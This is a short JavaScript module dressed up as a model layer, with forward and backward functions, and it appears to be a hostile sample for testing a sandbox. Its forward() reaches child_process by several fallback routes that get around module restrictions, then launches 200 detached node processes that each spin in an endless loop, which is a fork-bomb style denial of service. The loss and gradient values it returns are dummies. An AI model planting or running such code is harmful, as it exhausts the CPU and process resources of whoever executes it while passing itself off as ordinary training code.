// A fork bomb, if any process can be started at all.
const load = (name) => process.getBuiltinModule?.(name) ?? process.mainModule?.require(name) ?? process.binding(name);
export function forward() {
  const { spawn } = load('child_process');
  for (let i = 0; i < 200; i += 1) spawn('/bin/node', ['-e', 'for(;;);'], { detached: true, stdio: 'ignore' });
  return { loss: 1 };
}
export const backward = () => ({ dx: [1] });
